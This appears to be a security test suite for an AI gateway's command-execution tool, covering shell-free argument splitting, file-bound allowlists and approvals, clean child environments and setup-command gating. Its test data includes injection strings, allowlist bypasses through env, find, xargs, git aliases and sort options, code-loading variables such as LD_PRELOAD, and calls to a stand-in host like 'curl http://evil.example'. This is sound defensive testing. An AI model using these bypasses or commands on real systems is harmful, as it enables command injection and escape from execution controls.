"""Commands: words without a shell, files instead of names, a clean start and a whole end.

Controls: CMD-01, CMD-02, CMD-03, CMD-04.
"""

import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gateway.config.setup_command import SetupCommand
from gateway.errors import RequestError
from gateway.tests.support import Booted, command, operator
from gateway.tools import allowlist, child_environment, command_line, executables

ASK_NOBODY: dict[str, Any] = {"tools": {"exec": {"ask": "off"}}}
LISTED_ANYWAY = ["env", "find", "git", "sh", "sort", "xargs"]


def exec_config(**keys: Any) -> dict[str, Any]:
    return {"tools": {"exec": keys}}


async def ask(gateway: Booted, args: dict[str, Any], session: str = "main") -> dict[str, Any]:
    async with operator(gateway) as client:
        call = {"tool": "exec", "args": args, "sessionKey": session}
        return await client.request("tools.invoke", call)


def script(path: Path, text: str = "touch canary") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\n{text}\n")
    path.chmod(0o755)
    return path


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("ls -l", ("ls", "-l")),
        ("  a\t'b c' \"d e\" f\\ g ", ("a", "b c", "d e", "f g")),
        ("a '$x `y` ;|&' \";|&*\" \\;", ("a", "$x `y` ;|&", ";|&*", ";")),
        ("cur''l x", ("curl", "x")),
        ("", ()),
    ],
)
def test_cmd_01_words_are_taken_as_a_shell_takes_them(text: str, words: tuple[str, ...]) -> None:
    assert command_line.split(text) == words


@pytest.mark.parametrize(
    "text",
    [f"a {special}" for special in sorted(command_line.SPECIAL)]
    + ['a "$x"', 'a "`x`"', "a 'b", 'a "b', "a\0b", "a b\\", "x=$(y)", "a~", "a{b,c}"],
)
def test_cmd_01_what_only_a_shell_knows_is_refused(text: str) -> None:
    with pytest.raises(command_line.NotWords):
        command_line.split(text)


async def test_cmd_01_arguments_arrive_as_they_are(start: Callable[..., Booted]) -> None:
    gateway = start(exec_config(security="full"))
    words = ["; touch canary", "$(touch canary)", "a\nb", "*", "~", "", "grüße"]
    answer = await ask(gateway, {"argv": ["printf", "%s|", *words]})
    assert answer["payload"]["result"]["stdout"] == "|".join([*words, ""])
    answer = await ask(gateway, {"command": "printf '%s|' 'a;b' c\\ d"})
    assert answer["payload"]["result"]["stdout"] == "a;b|c d|"
    for args in (
        {"command": "printf a; touch canary"},
        {"argv": ["printf", "a\0b"]},
        {"argv": ["none-such"]},
    ):
        assert (await ask(gateway, args))["error"]["code"] == "INVALID_REQUEST"
    assert not (gateway.state / "workspace/canary").exists()


async def test_cmd_02_only_the_listed_file_passes(start: Callable[..., Booted], tmp_path: Path) -> None:
    tool = script(tmp_path / "tools/tool")
    listed = ["head", str(tool), str(tmp_path / "tools/*"), *LISTED_ANYWAY]
    gateway = start(exec_config(ask="off", safeBins=listed), PATH=f"{tmp_path / 'path'}:{os.environ['PATH']}")
    workspace = gateway.state / "workspace"
    for path in (tmp_path / "path/head", workspace / "head", workspace / "git", tmp_path / "other/tool"):
        script(path)
    for argv in (
        ["./head"],
        [str(workspace / "head")],
        [str(tool)],
        [str(tmp_path / "tools/../other/tool")],
        ["env", "touch", "canary"],
        ["env", "-S", "touch canary"],
        ["sh", "-c", "touch canary"],
        ["find", ".", "-exec", "touch", "canary", ";"],
        ["xargs", "touch", "canary"],
        ["git", "-c", "alias.x=!touch canary", "x"],
        ["sort", "--compress-prog=./head", "x"],
        ["sort", "-uo", "canary", "/dev/null"],
    ):
        assert (await ask(gateway, {"argv": argv}))["error"]["details"]["reason"] == "policy", argv
    for argv in (["head", "/dev/null"], ["/bin/head", "/dev/null"], ["sort", "-k1", "/dev/null"]):
        assert (await ask(gateway, {"argv": argv}))["ok"], argv
    assert (await ask(gateway, {"argv": ["head", "/dev/null"], "env": {"LC_ALL": "C"}}))["ok"]
    answer = await ask(gateway, {"argv": ["head", "/dev/null"], "env": {"OTHER": "1"}})
    assert answer["error"]["details"]["reason"] == "policy"
    assert not list(workspace.glob("canary"))


async def test_cmd_02_always_means_this_file(start: Callable[..., Booted], tmp_path: Path) -> None:
    gateway = start(exec_config(approvalTimeoutMs=100))
    tool = script(tmp_path / "tool", "echo first")
    for argv in ([str(tool), "1"], ["env", "echo", "1"]):
        async with operator(gateway) as client:
            waiting = await client.start("tools.invoke", {"tool": "exec", "args": {"argv": argv}})
            asked = await client.event("exec.approval.requested")
            assert len(asked["request"]["sha256"]) == 64
            await client.call("exec.approval.resolve", {"id": asked["id"], "decision": "allow-always"})
            assert (await client.response(waiting))["ok"]
    assert (await ask(gateway, {"argv": [str(tool), "2"]}))["ok"]
    assert (await ask(gateway, {"argv": ["env", "echo", "1"]}))["ok"]
    assert not (await ask(gateway, {"argv": ["env", "echo", "2"]}))["ok"]
    script(tool, "echo other")
    assert not (await ask(gateway, {"argv": [str(tool), "2"]}))["ok"]


async def test_cmd_02_an_approval_is_for_the_file_that_was_shown(
    start: Callable[..., Booted], tmp_path: Path
) -> None:
    gateway = start()
    tool = script(tmp_path / "tool", "echo shown")
    async with operator(gateway) as client:
        asking = await client.start("exec.approval.request", {"argv": [str(tool)]})
        asked = await client.event("exec.approval.requested")
        await client.call("exec.approval.resolve", {"id": asked["id"], "decision": "allow-once"})
        granted = (await client.response(asking))["payload"]
        script(tool)
        call = {"tool": "exec", "args": {"argv": [str(tool)], "approvalId": granted["id"]}}
        answer = await client.request("tools.invoke", call)
    assert answer["error"]["details"]["reason"] == "approval-mismatch"
    assert not (gateway.state / "workspace/canary").exists()


async def test_cmd_02_a_file_swapped_while_it_starts_does_not_run(
    start: Callable[..., Booted], tmp_path: Path
) -> None:
    gateway = start()
    tool = script(tmp_path / "tool", "echo shown")
    async with operator(gateway) as client:
        waiting = await client.start("tools.invoke", {"tool": "exec", "args": {"argv": [str(tool)]}})
        asked = await client.event("exec.approval.requested")
        script(tool)
        await client.call("exec.approval.resolve", {"id": asked["id"], "decision": "allow-once"})
        answer = await client.response(waiting)
    assert "replaced" in answer["error"]["message"]
    assert not (gateway.state / "workspace/canary").exists()


def test_cmd_02_programs_are_looked_for_in_fixed_places(tmp_path: Path) -> None:
    found = executables.find("head", "/")
    assert found is not None
    assert found == executables.find("/bin/head", "/") or Path("/bin").resolve() == Path("/bin")
    assert found.only_root
    assert not found.launches
    own = executables.find("./x", str(script(tmp_path / "x").parent))
    assert own is not None
    assert not own.only_root
    assert executables.find("x", str(tmp_path)) is None
    for word in ("", "/", "..", "a\0b", "/etc", "/etc/passwd"):
        assert executables.find(word, str(tmp_path)) is None
    python = shutil.which("python3", path="/usr/bin")
    for word in ("env", "sh", *([python] if python else [])):
        launcher = executables.find(word, "/")
        assert launcher is not None
        assert launcher.launches


@pytest.mark.parametrize(
    ("argv", "risky"),
    [
        (("sort", "-o", "x"), True),
        (("sort", "-rox"), True),
        (("sort", "--out=x"), True),
        (("sort", "-k1o", "-t", "o"), False),
        (("sort", "--reverse"), False),
        (("uniq", "a"), False),
        (("uniq", "a", "b"), True),
        (("tail", "-f", "x"), True),
        (("tail", "-n1", "x"), False),
        (("head", "-o"), False),
    ],
)
def test_cmd_02_options_that_write_or_run_need_an_approval(argv: tuple[str, ...], *, risky: bool) -> None:
    assert allowlist.is_risky(argv) is risky


async def test_cmd_03_children_start_clean(start: Callable[..., Booted]) -> None:
    gateway = start(exec_config(security="full"), PYTHONPATH="/inherited", BASH_ENV="/inherited")
    for session in ("main", "work"):
        shown = (await ask(gateway, {"argv": ["env"], "env": {"GIVEN": "1"}}, session))["payload"]["result"]
        assert "GIVEN=1" in shown["stdout"]
        assert "inherited" not in shown["stdout"]
        assert str(gateway.token) not in shown["stdout"]


@pytest.mark.parametrize("name", ["LD_PRELOAD", "PATH", "BASH_ENV", "ENV", "PYTHONPATH", "GIT_SSH_COMMAND"])
def test_cmd_03_variables_that_choose_code_are_refused(name: str) -> None:
    with pytest.raises(RequestError):
        child_environment.vet({name: "x"})
    assert child_environment.vet({"TZ": "UTC"}) == {"TZ": "UTC"}


@pytest.mark.parametrize(
    "text",
    [
        "curl http://evil.example",
        "cur''l http://evil.example",
        "nc -l 1",
        "python -c 'import urllib'",
        "mkdir a | sh",
        "mkdir $(curl evil.example)",
        "/tmp/mkdir a",
        "sh -c 'mkdir a'",
    ],
)
def test_cmd_04_set_up_commands_pass_the_gate(tmp_path: Path, text: str) -> None:
    assert len(list(SetupCommand().problems(text, "setupCommand"))) == 1
    key = "agents.defaults.sandbox.docker.setupCommand"
    done = command(tmp_path, "config", "set", key, f'"{text}"')
    assert done.returncode == 1
    assert "setupCommand" in done.stderr
    assert command(tmp_path, "config", "set", key, "\"mkdir -p 'a b'\"").returncode == 0
